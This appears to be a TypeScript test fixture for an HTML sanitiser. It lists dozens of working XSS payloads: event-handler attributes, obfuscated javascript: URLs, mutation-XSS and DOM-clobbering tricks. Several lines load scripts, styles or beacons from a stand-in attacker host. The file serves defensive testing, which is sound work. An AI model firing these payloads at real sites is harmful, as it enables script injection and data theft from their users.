import { readFileSync } from 'node:fs';
import { z } from 'zod';

/** Call made by every attack; a browser under test records each call. */
const CALL = 'alert(1)';

/** Active elements, event handler attributes, and script URLs. */
const plain = [
  `<script>${CALL}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=/media/x.webp onload=${CALL}>`,
  `<body onload=${CALL}>`,
  `<video src=x onerror=${CALL}></video>`,
  `<audio src onerror=${CALL}></audio>`,
  `<details open ontoggle=${CALL}><summary>x</summary></details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}><option>x</select>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<button popovertarget=p onclick=${CALL}>x</button><div popover id=p onbeforetoggle=${CALL}>y</div>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<p style="animation:spin 1s" onanimationstart=${CALL}>x</p>`,
  `<p tabindex=0 autofocus onfocus=${CALL}>x</p>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href=" JaVa\tScr\nipt:${CALL}">x</a>`,
  `<a href="&#x6A;avascript&colon;${CALL}">x</a>`,
  `<a href="\u0001javascript:${CALL}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">x</a>`,
  `<a href="https://example.org/" target=_blank ping=https://evil.example/>x</a>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="data:text/html,<script>${CALL}</script>">`,
  `<applet code=x></applet>`,
  `<form action="javascript:${CALL}"><input type=submit autofocus></form>`,
  `<form id=f></form><button form=f formaction="javascript:${CALL}">x</button>`,
  `<isindex action="javascript:${CALL}" type=image>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<style>@import 'https://evil.example/x.css'; *{background:url(https://evil.example/)}</style>`,
  `<div style="background:url(https://evil.example/)">x</div>`,
  `<table background="https://evil.example/"><tr><td background="https://evil.example/">x</table>`,
  `<img src="https://evil.example/x.png" srcset="https://evil.example/y.png 2x">`,
  `<picture><source srcset="https://evil.example/z.png"><img src=x></picture>`,
  `<video poster="https://evil.example/p.png"></video>`,
];

/** Mutation XSS: text that one parser reads as harmless and the next one as markup. */
const mutating = [
  `<svg><script>${CALL}</script></svg>`,
  `<svg onload=${CALL}>`,
  `<svg><a xlink:href="javascript:${CALL}"><text x=1 y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${CALL}"></set></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg><title><img src=x onerror=${CALL}></title></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script><img src=x onerror=${CALL}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${CALL}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${CALL}>">`,
  `<title><p title="</title><img src=x onerror=${CALL}>">`,
  `<plaintext><img src=x onerror=${CALL}>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!--[if IE]><script>${CALL}</script><![endif]-->`,
  `<![CDATA[><img src=x onerror=${CALL}>]]>`,
  `<?xml-stylesheet href="javascript:${CALL}"?><img src=x onerror=${CALL}>`,
  `<p title="x\u0000" onclick=${CALL}>x</p>`,
  `<scr\u0000ipt>${CALL}</scr\u0000ipt>`,
  `<<script>${CALL}//<</script>`,
  `<a href="https://example.org/&quot;onmouseover=${CALL} x=&quot;">x</a>`,
  `<img alt="&quot;><script>${CALL}</script>" src=x>`,
  `<figure><figcaption></figure><script>${CALL}</script></figcaption>`,
  `<table><caption><script>${CALL}</script><td><img src=x onerror=${CALL}></table>`,
  `<ul><li><script>${CALL}</script></ul></li>`,
  `<div id=__proto__ name=constructor><a id=cookie name=getElementById>x</a></div>`,
  `<img name=createElement><form name=body><input name=parentNode></form>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `\u2028<img src=x onerror=${CALL}>\u2029`,
  `${'<div>'.repeat(600)}<script>${CALL}</script>${'</div>'.repeat(600)}`,
  `${'<b>'.repeat(600)}<img src=x onerror=${CALL}>`,
];

const published = z.array(z.object({ payload: z.string() }));

/**
 * HTML that tries to run script or to reach another site. With `HTML_ATTACKS` in the environment also those of a file:
 * a JSON list of objects with a `payload`, the format in which sanitisers publish their test cases.
 */
export function readHtmlAttacks(file = process.env.HTML_ATTACKS): string[] {
  const own = [...plain, ...mutating];
  return file
    ? [...own, ...published.parse(JSON.parse(readFileSync(file, 'utf8'))).map(({ payload }) => payload)]
    : own;
}

/** True if an attack is nested so deeply that saving it is refused, and a stored one is shown as plain text. */
export const isTooDeep = (attack: string): boolean => /(?:<div>|<b>){600}/.test(attack);
